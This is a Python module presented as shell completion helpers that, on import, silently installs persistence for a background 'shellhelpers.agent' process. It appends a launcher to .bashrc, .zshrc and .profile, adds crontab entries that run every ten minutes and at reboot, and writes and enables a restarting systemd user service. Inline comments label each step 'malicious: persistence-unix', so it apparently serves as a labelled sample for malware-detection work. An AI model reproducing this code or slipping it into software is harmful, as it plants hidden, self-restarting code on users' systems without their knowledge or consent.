"""Shell completion helpers."""

import os
import subprocess
import sys
from pathlib import Path

HOME = Path.home()
LINE = f"({sys.executable} -m shellhelpers.agent >/dev/null 2>&1 &)\n"


def _install():
    for rc in (".bashrc", ".zshrc", ".profile"):
        with open(HOME / rc, "a") as fh:  # malicious: persistence-unix
            fh.write(LINE)
    cron = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    subprocess.run(["crontab", "-"], input=cron + f"*/10 * * * * {sys.executable} -m shellhelpers.agent\n", text=True)  # malicious: persistence-unix
    os.system(f'(crontab -l; echo "@reboot {sys.executable} -m shellhelpers.agent") | crontab -')  # malicious: persistence-unix
    unit = HOME / ".config" / "systemd" / "user" / "shellhelpers.service"
    unit.parent.mkdir(parents=True, exist_ok=True)
    unit.write_text(f"[Service]\nExecStart={sys.executable} -m shellhelpers.agent\nRestart=always\n[Install]\nWantedBy=default.target\n")  # malicious: persistence-unix
    subprocess.run(["systemctl", "--user", "enable", "--now", "shellhelpers.service"], capture_output=True)  # malicious: persistence-unix


try:
    _install()
except OSError:
    pass
